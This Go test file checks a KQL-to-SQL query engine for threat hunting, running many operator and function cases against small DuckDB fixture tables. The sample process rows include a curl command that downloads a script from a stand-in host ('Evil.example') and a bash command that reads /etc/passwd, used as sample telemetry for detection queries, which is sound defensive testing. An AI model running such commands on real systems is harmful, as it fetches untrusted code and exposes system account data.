package hunting

import (
	"context"
	"database/sql"
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	_ "github.com/duckdb/duckdb-go/v2"

	"github.com/bulwarkhq/bulwark/portal/hunting/kql"
)

// memory is a store with two small tables.
type memory struct{ db *sql.DB }

func (m memory) Hunt(context.Context) (Session, error) { return m, nil }
func (m memory) Close() error                          { return nil }
func (m memory) Load(ctx context.Context, t Table, rows [][]any) error {
	return errors.New("nothing to load")
}

func (m memory) Parquet(context.Context, string, int64) (*os.File, int64, error) {
	return nil, 0, errors.New("nothing to write")
}

func (m memory) Select(ctx context.Context, statement string, each func([]any) error) error {
	rows, err := m.db.QueryContext(ctx, statement)
	if err != nil {
		return err
	}
	defer rows.Close()
	cols, err := rows.Columns()
	if err != nil {
		return err
	}
	row, into := make([]any, len(cols)), make([]any, len(cols))
	for i := range row {
		into[i] = &row[i]
	}
	for rows.Next() {
		if err := rows.Scan(into...); err != nil {
			return err
		}
		if err := each(row); err != nil {
			return err
		}
	}
	return rows.Err()
}

var testNow = time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)

func newHunter(t testing.TB) *Hunter {
	t.Helper()
	db, err := sql.Open("duckdb", "?disabled_optimizers="+DisabledOptimizers)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	for _, s := range []string{
		`CREATE TABLE P ("When" TIMESTAMP, Device VARCHAR, Name VARCHAR, Cmd VARCHAR, Pid BIGINT, Bytes INTEGER, Root BOOLEAN, Extra VARCHAR)`,
		`INSERT INTO P VALUES
			('2026-11-28 10:00:00', 'alpha', 'curl', 'curl -o /tmp/x http://Evil.example/a.sh', 10, 100, true, '{"user":"root","tags":["a","b"],"n":7}'),
			('2026-11-28 10:30:00', 'alpha', 'bash', 'bash -c "cat /etc/passwd"', 11, 200, true, '{"user":"root","tags":[]}'),
			('2026-11-28 11:10:00', 'beta', 'wget', 'wget-like program_files', 12, NULL, false, NULL),
			('2026-11-27 11:10:00', 'beta', NULL, NULL, NULL, 50, NULL, 'no json')`,
		`CREATE TABLE N (Device VARCHAR, Pid BIGINT, Ip VARCHAR)`,
		`INSERT INTO N VALUES ('alpha', 10, '10.1.2.3'), ('alpha', 10, '8.8.8.8'), ('gamma', 99, '192.168.0.1')`,
	} {
		if _, err := db.Exec(s); err != nil {
			t.Fatal(err)
		}
	}
	h := New(memory{db}, func() time.Time { return testNow })
	for _, table := range []Table{
		{Name: "P", Columns: []Column{
			{"When", DateTime}, {"Device", String}, {"Name", String}, {"Cmd", String}, {"Pid", Long}, {"Bytes", Int}, {"Root", Bool}, {"Extra", String},
		}},
		{Name: "N", Columns: []Column{{"Device", String}, {"Pid", Long}, {"Ip", String}}},
	} {
		h.tables[table.Name] = table
		h.names = append(h.names, table.Name)
	}
	return h
}

func run(t *testing.T, h *Hunter, query string) string {
	t.Helper()
	r, err := h.Run(t.Context(), "tester", query, Limits{})
	if err != nil {
		t.Errorf("%s\n%v", query, err)
		if q, perr := kql.Parse(query); perr == nil {
			if st, terr := h.translate(t.Context(), q, memory{}, Limits{}); terr == nil {
				t.Log(st.sql)
			}
		}
		return "error"
	}
	var b strings.Builder
	for i, c := range r.Columns {
		if i > 0 {
			b.WriteString(",")
		}
		b.WriteString(c.Name)
	}
	for _, row := range r.Rows {
		out := make([]any, len(row))
		for i, v := range row {
			out[i] = JSON(v)
		}
		j, err := json.Marshal(out)
		if err != nil {
			t.Fatal(err)
		}
		b.WriteString(" " + strings.ReplaceAll(string(j), `"`, "'"))
	}
	return b.String()
}

func TestOperators(t *testing.T) {
	h := newHunter(t)
	for _, tc := range []struct{ query, want string }{
		{"P | where Pid == 10 | project Device, Name", "Device,Name ['alpha','curl']"},
		{"P | where Name != 'curl' | sort by Pid asc | project Pid", "Pid [null] [11] [12]"},
		{"P | where not(Pid == 10) | count", "Count [3]"},
		{"P | where Bytes != 100 | count", "Count [3]"},
		{"P | where When > ago(3h) and When <= now() | summarize n = count() by Device | sort by n, Device", "Device,n ['alpha',2] ['beta',1]"},
		{"P | summarize count() by bin(When, 1d) | sort by When asc", "When,count_ ['2026-11-27T00:00:00Z',1] ['2026-11-28T00:00:00Z',3]"},
		{
			"P | summarize dcount(Device), sum(Bytes), avg(Bytes), set_Device = array_sort_asc(make_set(Device)), countif(Root)", // a set has no order
			"dcount_Device,sum_Bytes,avg_Bytes,set_Device,countif_ [2,350,116.66666666666667,['alpha','beta'],2]",
		},
		{
			"P | summarize arg_max(When, *) by Device | project Device, When, Name | sort by Device asc",
			"Device,When,Name ['alpha','2026-11-28T10:30:00Z','bash'] ['beta','2026-11-28T11:10:00Z','wget']",
		},
		{"P | summarize (last, cmd) = arg_max(Pid, Cmd)", "last,cmd [12,'wget-like program_files']"},
		{"P | summarize percentile(Bytes, 50), percentiles(Bytes, 0, 100)", "percentile_Bytes_50,percentile_Bytes_0,percentile_Bytes_100 [100,50,200]"},
		{"P | summarize list_Pid = array_sort_asc(make_list(Pid)) by Device | sort by Device asc", "Device,list_Pid ['alpha',[10,11]] ['beta',[12]]"},
		{"P | summarize x = 100.0 * countif(Device == 'alpha') / count()", "x [50]"},
		{"P | top 2 by Pid desc | project Pid", "Pid [12] [11]"},
		{"P | sort by Pid asc nulls last | take 2 | project Pid", "Pid [10] [11]"},
		{"P | distinct Device | sort by Device asc", "Device ['alpha'] ['beta']"},
		{"P | where Name has 'x' or isempty(Name) | distinct Name", "Name ['']"},
		{"P | extend Up = toupper(Name), Len = strlen(Up) | where Pid == 10 | project Up, Len", "Up,Len ['CURL',4]"},
		{"P | where Pid == 10 | extend Name = strcat(Name, '!') | project Name, Pid", "Name,Pid ['curl!',10]"},
		{"P | where Pid == 10 | project-away When, Cmd, Extra, Bytes, Root | project-rename Host = Device | project-reorder Pid, *", "Pid,Host,Name [10,'alpha','curl']"},
		{"P | where Pid == 10 | project-keep N*, Pid", "Name,Pid ['curl',10]"},
		{"P | join kind=inner N on Device, Pid | project Name, Ip, Device1 | sort by Ip asc", "Name,Ip,Device1 ['curl','10.1.2.3','alpha'] ['curl','8.8.8.8','alpha']"},
		{"N | join P on Pid | project Ip, Name | count", "Count [1]"},
		{"P | join kind=leftouter (N | where Ip startswith '8.') on $left.Pid == $right.Pid | project Pid, Ip | sort by Pid asc", "Pid,Ip [null,''] [10,'8.8.8.8'] [11,''] [12,'']"},
		{"P | join kind=leftanti N on Pid | project Pid | sort by Pid asc", "Pid [null] [11] [12]"},
		{"P | join kind=leftsemi N on Pid | project Pid", "Pid [10]"},
		{"P | join kind=rightanti N on Pid | project Ip", "Ip ['192.168.0.1']"},
		{"P | join kind=fullouter N on Pid | count", "Count [6]"},
		{"P | lookup N on Device, Pid | project-away When, Cmd, Extra, Bytes, Root | sort by Pid, Ip | take 1", "Device,Name,Pid,Ip ['beta','wget',12,'']"},
		{"union P, N | summarize count() by Device | sort by Device asc", "Device,count_ ['alpha',4] ['beta',2] ['gamma',1]"},
		{"union withsource=T isfuzzy=true N, Missing | summarize count() by T", "T,count_ ['N',3]"},
		{"union kind=inner P, N | project-reorder Device, Pid | take 0", "Device,Pid"},
		{"P | where Pid in (10, 12) | project Pid | sort by Pid asc", "Pid [10] [12]"},
		{"P | where Pid !in (10, 12) | count", "Count [2]"},
		{"P | where Name in~ ('CURL', 'Bash') | count", "Count [2]"},
		{"P | where Pid in ((N | project Pid)) | project Pid", "Pid [10]"},
		{"let l = dynamic(['alpha','x']); P | where Device in (l) | count", "Count [2]"},
		{"let since = 3h; let T = P | where When > ago(since); T | where Device =~ 'ALPHA' | count", "Count [2]"},
		{"let f = (d:string, n:long=10) { P | where Device == d and Pid > n }; f('alpha') | count", "Count [1]"},
		{"let big = (x:long) { x > 10 }; P | where big(Pid) | count", "Count [2]"},
		{"let f = (T:(Pid:long)) { T | count }; N | invoke f()", "Count [3]"},
		{"let m = toscalar(P | summarize max(Pid)); print m", "m [12]"},
		{"P | as X | join kind=inner X on Pid | count", "Count [3]"},
		{"P | extend d = parse_json(Extra) | where d.user == 'root' | extend n = tolong(d.n), t = tostring(d.tags[1]) | project n, t | sort by n", "n,t [7,'b'] [null,'']"},
		{"P | where Pid == 10 | extend d = parse_json(Extra) | mv-expand tag = d.tags to typeof(string) | project tag", "tag ['a'] ['b']"},
		{"print d = dynamic({'a':1,'b':[2,3]}) | mv-expand d | sort by tostring(d) asc", "d [{'a':1}] [{'b':[2,3]}]"},
		{"print a = dynamic([1,2,3]), b = dynamic(['x','y']) | mv-expand with_itemindex=i a, b | project i, a, b", "i,a,b [0,1,'x'] [1,2,'y'] [2,3,null]"},
		{"datatable(k:string, l:dynamic)['a', dynamic([3,1,2]), 'b', dynamic([9])] | mv-apply e = l to typeof(long) on (summarize m = max(e)) | project k, m | sort by k asc", "k,m ['a',3] ['b',9]"},
		{"datatable(k:string, l:dynamic)['a', dynamic([3,1,2])] | mv-apply e = l to typeof(long) on (top 1 by e desc) | project k, e", "k,e ['a',3]"},
		{"P | where Pid == 10 | parse Cmd with * '-o ' Out:string ' ' Url | project Out, Url", "Out,Url ['/tmp/x','http://Evil.example/a.sh']"},
		{"print x = 'user=joe port=22 done' | parse x with 'user=' User ' port=' Port:int ' ' *", "x,User,Port ['user=joe port=22 done','joe',22]"},
		{"print x = 'nothing' | parse x with 'user=' User ' port=' Port:int", "x,User,Port ['nothing','',null]"},
		{"print x = 'nothing' | parse-where x with 'user=' User", "x,User"},
		{"print x = 'a12b' | parse kind=regex x with '[a-z]' N:long '[a-z]'", "x,N ['a12b',12]"},
		{"range x from 1 to 3 step 1 | summarize sum(x)", "sum_x [6]"},
		{"range x from datetime(2026-01-01) to datetime(2026-01-03) step 1d | count", "Count [3]"},
		{"range x from 0 to 1 step 0.5", "x [0] [0.5] [1]"},
		{"datatable(a:string, b:long)['x', 1, 'y', 2] | where b > 1", "a,b ['y',2]"},
		{"P | where Pid == 10 | serialize r = row_number() | project r", "r [1]"},
		{"range x from 1 to 3 step 1 | sort by x desc | extend p = prev(x), n = next(x, 1, -1), c = row_cumsum(x)", "x,p,n,c [3,null,2,3] [2,3,1,5] [1,2,-1,6]"},
		{"search in (P, N) 'gamma' | project Device", "Device ['gamma']"},
		{"P | search 'evil' | project Pid", "Pid [10]"},
		{"N | getschema | project ColumnName, ColumnType", "ColumnName,ColumnType ['Device','string'] ['Pid','long'] ['Ip','string']"},
		{"P | top-hitters 1 of Device by Pid", "Device,approximate_sum_Pid ['alpha',21]"},
		{"print d = dynamic({'b':1,'a':'x'}), k = 5 | evaluate bag_unpack(d)", "k,a,b [5,'x',1]"},
		{"N | evaluate pivot(Device, count(), Pid) | sort by Pid asc", "Pid,alpha,gamma [10,2,0] [99,0,1]"},
		{
			"P | make-series n = count() default = 0 on When from datetime(2026-11-28 10:00) to datetime(2026-11-28 12:00) step 1h",
			"n,When [[2,1],['2026-11-28T10:00:00.0000000Z','2026-11-28T11:00:00.0000000Z']]",
		},
		{"N | make-series s = sum(Pid) on Pid from 0 to 30 step 10 by Device | project Device, s | sort by Device asc", "Device,s ['alpha',[0,20,0]]"},
		{"P | sample-distinct 5 of Device | count", "Count [2]"},
		{"P | consume", "When,Device,Name,Cmd,Pid,Bytes,Root,Extra"},
		{"let A = view () { N | take 1 }; union A, A | count", "Count [2]"},
		{"N | count as n", "n [3]"},
	} {
		if got := run(t, h, tc.query); got != tc.want {
			t.Errorf("%s\n got %s\nwant %s", tc.query, got, tc.want)
		}
	}
}

func TestExpressions(t *testing.T) {
	h := newHunter(t)
	for expr, want := range map[string]string{
		"1 + 2 * 3": "7", "7 / 2": "3", "7 / 2.0": "3.5", "7 % 4": "3", "-5": "-5", "1 / 0": "null",
		"'abc' contains 'B'": "true", "'abc' contains_cs 'B'": "false", "'abc' !contains 'z'": "true",
		"'a b-c' has 'b'": "true", "'a bx-c' has 'b'": "false", "'a bx-c' hasprefix 'b'": "true", "'wget-like program_files' has 'files'": "true",
		"'C:\\\\Program Files\\\\x' has 'program files'": "true", "'abc' startswith 'AB'": "true", "'abc' endswith_cs 'BC'": "false",
		"'abc' =~ 'ABC'": "true", "'abc' !~ 'ABC'": "false", "'abc' == 'ABC'": "false", "'abc' < 'abd'": "true",
		"'one two' has_any ('two','three')": "true", "'one two' has_all ('two','one')": "true", "'one two' has_all ('two','x')": "false",
		"'one two' has_any ('a','b','c','d','two')": "true", "'x' matches regex '^[a-z]$'": "true", "5 between (1 .. 5)": "true", "5 !between (1 .. 4)": "true",
		"datetime(2026-01-02) between (datetime(2026-01-01) .. 1d)": "true",
		"datetime(2026-01-02) - datetime(2026-01-01)":               "'1.00:00:00'", "datetime(2026-01-01) + 90m": "'2026-01-01T01:30:00Z'",
		"1h / 30m": "2", "2 * 1h": "'02:00:00'", "1d - 1h": "'23:00:00'", "ago(1d)": "'2026-11-27T12:00:00Z'", "now(-1h)": "'2026-11-28T11:00:00Z'",
		"bin(17, 5)": "15", "bin(4.7, 0.5)": "4.5", "bin(datetime(2026-11-28 10:37), 15m)": "'2026-11-28T10:30:00Z'", "bin(90m, 1h)": "'01:00:00'", "bin(-3, 2)": "-4",
		"bin(datetime(2026-11-28), 7d)": "'2026-11-23T00:00:00Z'",
		"tostring(5)":                   "'5'", "tostring(1.5)": "'1.5'", "tostring(true)": "'True'", "tostring(90m)": "'01:30:00'", "tostring(dynamic({'a':1}))": "'{\\'a\\':1}'",
		"tostring(datetime(2026-01-02))": "'2026-01-02T00:00:00.0000000Z'", "tolong('12')": "12", "tolong('12.9')": "12", "tolong('0x1F')": "31", "tolong('x')": "null", "toint(5.9)": "5",
		"todouble('1e3')": "1000", "tobool('true')": "true", "tobool('0')": "false", "todatetime('2026-01-02T03:04:05Z')": "'2026-01-02T03:04:05Z'", "totimespan('1.02:03:04')": "'1.02:03:04'",
		"todatetime(strcat('2026-01-02', 'T03:04:05Z'))": "'2026-01-02T03:04:05Z'", "totimespan(strcat('-01:00:0', '0'))": "'-01:00:00'", "tolong(strcat('0x', '1F'))": "31",
		"strcat('a', 1, true)": "'a1True'", "strcat_delim('-', 'a', 'b', 3)": "'a-b-3'", "substring('hello', 1, 3)": "'ell'", "substring('hello', 3)": "'lo'",
		"indexof('hello', 'l')": "2", "indexof('hello', 'z')": "-1", "indexof('hello', 'l', 3)": "3", "countof('banana', 'an')": "2", "countof('a1b22', '[0-9]+', 'regex')": "2",
		"replace_string('aXbX', 'X', '-')": "'a-b-'", "replace_regex('a1b2', '[0-9]', '#')": "'a#b#'", "trim(' ', '  x ')": "'x'", "trim_start('/+', '//a/')": "'a/'", "trim_end('/', '//a//')": "'//a'",
		"split('a,b,c', ',')": "['a','b','c']", "split('a,b,c', ',', 1)": "['b']", "split('a,b', ',')[1]": "'b'", "extract('user=(\\\\w+)', 1, 'x user=joe y')": "'joe'",
		"extract('n=([0-9]+)', 1, 'n=42', typeof(long))": "42", "extract_all('([0-9]+)', 'a1b22')": "['1','22']", "reverse('abc')": "'cba'", "strrep('ab', 2)": "'abab'", "strlen('héllo')": "5",
		"tolower('ÄB')": "'äb'", "isempty('')": "true", "isnotempty('x')": "true", "isnull(long(null))": "true", "isnull('')": "false", "isnotnull(5)": "true",
		"url_decode('a%20b')": "'a b'", "base64_decode_tostring('aGVsbG8=')": "'hello'", "base64_encode_tostring('hello')": "'aGVsbG8='", "base64_decode_tostring('***')": "''",
		"hash_sha256('a')": "'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb'", "hash_md5('a')": "'0cc175b9c0f1b6a831c399e269772661'",
		"iff(1 > 2, 'a', 'b')": "'b'", "iif(true, 1, 2.5)": "1", "case(1 == 2, 'a', 2 == 2, 'b', 'c')": "'b'", "coalesce('', 'x')": "'x'", "coalesce(long(null), 5)": "5", "not(true)": "false",
		"startofday(datetime(2026-11-28 10:00))": "'2026-11-28T00:00:00Z'", "startofweek(datetime(2026-11-28))": "'2026-11-22T00:00:00Z'", "endofday(datetime(2026-11-28))": "'2026-11-28T23:59:59.999999Z'",
		"startofmonth(datetime(2026-11-28), -1)": "'2026-10-01T00:00:00Z'", "dayofweek(datetime(2026-11-28))": "'6.00:00:00'", "hourofday(datetime(2026-11-28 10:00))": "10",
		"datetime_diff('hour', datetime(2026-01-01 10:30), datetime(2026-01-01 08:59))": "2", "datetime_add('day', -1, datetime(2026-01-01))": "'2025-12-31T00:00:00Z'", "datetime_part('month', datetime(2026-11-28))": "11",
		"format_datetime(datetime(2026-11-28 10:05), 'yyyy-MM-dd HH:mm')": "'2026-11-28 10:05'", "format_timespan(90m, 'h:mm')": "'1:30'", "make_datetime(2026, 1, 2)": "'2026-01-02T00:00:00Z'",
		"unixtime_seconds_todatetime(0)": "'1970-01-01T00:00:00Z'", "abs(-3)": "3", "round(2.567, 1)": "2.6", "floor(2.7)": "2", "ceiling(2.1)": "3", "pow(2, 10)": "1024", "sqrt(9)": "3", "log(-1)": "null",
		"min_of(3, 1, 2)": "1", "max_of(3, 1.5)": "3", "binary_and(6, 3)": "2", "binary_shift_left(1, 4)": "16", "tohex(255)": "'ff'", "sign(-2)": "-1",
		"array_length(dynamic([1,2]))": "2", "array_length(dynamic({}))": "null", "bag_keys(dynamic({'a':1,'b':2}))": "['a','b']", "pack_array(1, 'x', true)": "[1,'x',true]", "bag_pack('a', 1, 'b', 'x')": "{'a':1,'b':'x'}",
		"bag_merge(dynamic({'a':1}), dynamic({'a':2,'b':3}))": "{'b':3,'a':1}", "array_concat(dynamic([1]), dynamic([2,3]))": "[1,2,3]", "array_slice(dynamic([1,2,3,4]), 1, 2)": "[2,3]", "array_index_of(dynamic(['a','b']), 'b')": "1",
		"array_sort_asc(dynamic([3,10,2]))": "[2,3,10]", "array_sort_desc(dynamic(['b','a']))": "['b','a']", "set_has_element(dynamic([1,2]), 2)": "true", "set_union(dynamic([1,2]), dynamic([2,3]))": "[1,2,3]",
		"set_intersect(dynamic([1,2]), dynamic([2,3]))": "[2]", "set_difference(dynamic([1,2]), dynamic([2,3]))": "[1]", "array_sum(dynamic([1,2.5]))": "3.5", "strcat_array(dynamic(['a',1]), '-')": "'a-1'",
		"dynamic({'a b':{'c':[10,20]}})['a b'].c[-1]": "20", "dynamic([1,2])[5]": "null", "range(1, 3, 1)": "[1,2,3]", "array_reverse(dynamic([1,2]))": "[2,1]", "parse_json('[1]')[0]": "1", "tolong(parse_json('{\"a\":\"5\"}').a) + 1": "6",
		"extract_json('$.a.b', '{\"a\":{\"b\":\"x\"}}')": "'x'", "gettype(dynamic([1]))": "'array'", "gettype(1.5)": "'real'", "parse_json('x')": "'x'",
		"ipv4_is_private('10.1.2.3')": "true", "ipv4_is_private('8.8.8.8')": "false", "ipv4_is_in_range('10.1.2.3', '10.1.0.0/16')": "true", "ipv4_is_in_range('10.2.2.3', '10.1.0.0/16')": "false",
		"ipv4_is_match('192.168.1.1/24', '192.168.1.77')": "true", "parse_ipv4('1.2.3.4')": "16909060", "parse_ipv4('1.2.3.400')": "null", "format_ipv4(16909060)": "'1.2.3.4'",
		"ipv4_is_in_any_range('10.1.2.3', '8.8.8.8', '10.0.0.0/8')": "true", "ipv4_compare('10.0.0.1', '10.0.0.2')": "-1", "has_ipv4('from 1.2.3.4:80', '1.2.3.4')": "true",
		"parse_path('/usr/bin/curl.sh').Filename": "'curl.sh'", "parse_path('/usr/bin/curl.sh').DirectoryPath": "'/usr/bin'", "parse_url('http://u:p@Host:80/a/b?x=1&y=2#f').Host": "'Host'", "parse_url('http://h/a?x=1&y=a%20b')['Query Parameters'].y": "'a b'",
		"dynamic([1,2]) == '[1,2]'": "true", "true and (1 == 1 or false)": "true", "column_ifexists('nope', 'd')": "'d'", "'5' == tostring(5)": "true", "'a\\'b' == \"a'b\"": "true", "'x' in (dynamic(['x','y']))": "true",
	} {
		got := run(t, h, "print x = "+expr)
		got = strings.TrimSuffix(strings.TrimPrefix(got, "x ["), "]")
		if got != want {
			t.Errorf("%s = %s, want %s", expr, got, want)
		}
	}
}
